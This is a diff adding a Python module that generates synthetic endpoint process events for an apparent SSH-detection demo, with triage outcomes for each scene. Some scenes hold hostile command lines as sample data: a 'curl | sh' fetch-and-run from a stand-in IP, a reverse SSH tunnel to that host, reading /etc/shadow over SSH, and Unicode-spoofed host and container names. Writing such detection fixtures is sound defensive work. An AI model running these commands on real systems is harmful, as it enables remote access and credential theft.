@@ -1,0 +1,159 @@
+"""Who lives in the demo's fleet and what they run, and how their agents write that down."""
+
+import random
+from dataclasses import dataclass
+from datetime import datetime
+from hashlib import sha256
+from typing import Any
+
+
+@dataclass(frozen=True, slots=True)
+class Scene:
+    """One thing that happens `times` in the day. `then` is what people do about it: exclude,
+    acknowledge, or "verdict: reason" to close it.
+    """
+
+    agent: str
+    container: str
+    image: str
+    tag: str
+    namespace: str
+    host: str
+    user: str
+    args: tuple[str, ...]
+    parent: tuple[str, ...]
+    times: int = 1
+    then: str | None = None
+
+
+EVENTS = (
+    Scene("fleet-eu", "checkout-7d9f", "shop/checkout", "4.12", "prod", "node-17", "www-data",
+          ("autossh", "-M", "0", "-f", "-N", "-R", "0.0.0.0:2222:localhost:22", "-p", "443", "-o",
+           "StrictHostKeyChecking=no", "ops@203.0.113.9"),
+          ("sh", "-c", "curl -s 203.0.113.9/x | sh"), times=41),
+    Scene("fleet-eu", "etl-nightly-28f", "data/etl", "2026.11", "batch", "node-04", "root",
+          ("/usr/sbin/sshd", "-D", "-p", "2022", "-o", "PermitRootLogin=yes"), ("sh",)),
+    Scene("fleet-eu", "web-5c6b", "shop/web", "9.1", "prod", "node-11", "nginx",
+          ("ssh", "-i", "/tmp/.k", "deploy@10.42.3.17"), ("bash",), times=3, then="acknowledge"),
+    Scene("ci-runners", "ci-runner-88", "ci/runner", "51", "ci", "node-02", "runner",
+          ("ssh", "-o", "BatchMode=yes", "deploy@bastion.corp.example", "uptime"),
+          ("node", "/srv/runner/bin/run.js"), times=214),
+    Scene("cloud-defend", "notebook-ana", "ds/jupyter", "7.3", "ds", "gpu-01", "jovyan",
+          ("ssh", "-N", "-D", "127.0.0.1:1080", "ana@gw-eu.example.net"), ("bash",), times=6),
+    Scene("cloud-defend", "argocd-repo-0", "argo/cd", "3.2", "ops", "node-03", "argocd",
+          ("ssh", "-p", "7999", "git@git.corp.example", "git-upload-pack 'infra/charts.git'"),
+          ("git", "fetch", "origin"), times=120, then="exclude"),
+    Scene("fleet-eu", "toolbox-1", "ops/toolbox", "22", "ops", "node-03", "ops",
+          ("ssh", "-A", "-J", "jump.corp.example", "ops@10.20.4.17"), ("bash",), times=12),
+    Scene("fleet-eu", "pg-backup-2", "db/backup", "15", "prod", "node-08", "postgres",
+          ("ssh", "-l", "rsync", "backup-07.example", "rsync", "--server", "-vlogDtpre.iLsfxC", ".",
+           "/srv/pg"), ("rsync", "-a", "/var/lib/pg"), times=96,
+          then="benign true positive: Nightly base backup, see RUN-114."),
+    Scene("ci-runners", "build-19ad", "ci/kaniko", "1.24", "ci", "node-02", "root",
+          ("ssh", "-V"), ("sh", "./configure"), times=55,
+          then="false positive: A configure script looks for the version."),
+    Scene("fleet-eu", "edi-out-3", "fin/edi", "3.3", "fin", "node-21", "edi",
+          ("ssh", "-oPort=2222", "-s", "acme@sftp.partner.example", "sftp"),
+          ("python3", "/srv/edi/send.py"), times=8),
+    Scene("fleet-eu", "legacy-erp", "fin/erp", "2014", "fin", "node-21", "root",
+          ("sshd: erp [priv]",), ("sshd",), times=30),
+    Scene("cloud-defend", "cart-66cd", "shop/cart", "2.8", "prod", "node-12", "app",
+          ("ssh", "-o", "UserKnownHostsFile=/dev/null", "-o", "StrictHostKeyChecking=no",
+           "root@172.17.0.1", "id; cat /etc/shadow"), ("java", "-jar", "cart.jar"), times=2,
+          then="true positive: Remote code execution in the cart service, INC-5512."),
+    Scene("ci-runners", "deploy-\u202egnp.4f2", "ci/runner", "51", "ci", "node-05", "runner",
+          ("ssh", "deploy@b\u0430stion.corp.example", "true"), ("bash",)),
+)  # fmt: skip
+
+BROKEN = [
+    b'{"event":{"category":["process"],"type":["start"]},"process":{"args":["ssh","\xff\xfe"]}}',
+    b'{"msg":"hello"}',
+    b'{"event":{"category":["process"],"action":"exec"},"process":{"name":"ssh","args":["ssh"',
+]
+
+_ORDINARY = (
+    ("ls", "-la"), ("curl", "-fsS", "http://127.0.0.1/health"), ("sh", "-c", "date"),
+    ("python3", "manage.py", "migrate"), ("cat", "/etc/hosts"), ("node", "server.js"),
+    ("pg_isready",), ("git", "status"), ("sleep", "5"), ("nginx", "-t"),
+)  # fmt: skip
+
+
+def event_of(scene: Scene, at: datetime, dice: random.Random) -> dict[str, Any]:
+    """An exec of `scene` as its agent writes it."""
+    name = scene.args[0].rpartition("/")[2].partition(":")[0]
+    process = {
+        "name": name,
+        "executable": f"/usr/{'sbin' if name == 'sshd' else 'bin'}/{name}",
+        "args": list(scene.args),
+        "args_count": len(scene.args),
+        "pid": dice.randrange(300, 30_000),
+        "entity_id": f"{dice.getrandbits(96):024x}",
+        "working_directory": "/srv",
+        "interactive": scene.parent == ("bash",),
+        "parent": {"name": scene.parent[0], "args": list(scene.parent), "pid": 41},
+        "entry_leader": {
+            "entry_meta": {"type": "container"},
+            "name": "containerd-shim",
+            "pid": 1,
+            "args": ["containerd-shim"],
+        },
+    }
+    container = {
+        "id": sha256(scene.container.encode()).hexdigest(),
+        "name": scene.container,
+        "image": {"name": scene.image, "tag": [scene.tag]},
+    }
+    return _dressed(scene.agent, process, scene.host, scene.user, at, dice) | {
+        "container": container,
+        "orchestrator": {"namespace": scene.namespace, "resource": {"name": scene.container}},
+    }
+
+
+def noise(at: datetime, dice: random.Random) -> dict[str, Any]:
+    """An ordinary process: no rule should care."""
+    args = dice.choice(_ORDINARY)
+    process = {
+        "name": args[0],
+        "executable": f"/usr/bin/{args[0]}",
+        "args": list(args),
+        "pid": dice.randrange(300, 30_000),
+        "entity_id": f"{dice.getrandbits(96):024x}",
+        "parent": {"name": "sh", "pid": 40},
+        "entry_leader": {"entry_meta": {"type": dice.choice(("container", "init", "sshd"))}},
+    }
+    return _dressed("fleet-eu", process, f"node-{dice.randrange(1, 22):02}", "app", at, dice)
+
+
+def _dressed(
+    agent: str,
+    process: dict[str, Any],
+    host: str,
+    user: str,
+    at: datetime,
+    dice: random.Random,
+) -> dict[str, Any]:
+    event: dict[str, Any] = {
+        "category": ["process"],
+        "type": ["start"],
+        "action": "exec",
+        "kind": "event",
+        "id": f"{dice.getrandbits(96):024x}",
+    }
+    told: dict[str, Any] = {"@timestamp": at.isoformat(), "user": {"name": user}}
+    if agent == "cloud-defend":
+        # Cloud Defend sends lists where Elastic Defend sends one value, and no command line.
+        event["action"] = ["fork", "exec"]
+        return told | {
+            "event": event,
+            "process": process,
+            "host.os.type": "linux",
+            "host.name": host,
+        }
+    process["command_line"] = " ".join(process["args"])
+    return told | {
+        "event": event,
+        "process": process,
+        "host": {"name": host, "os": {"type": "linux", "name": "Linux"}},
+        "agent": {"type": "endpoint", "version": "9.2.0"},
+        "ecs": {"version": "9.1.0"},
+    }
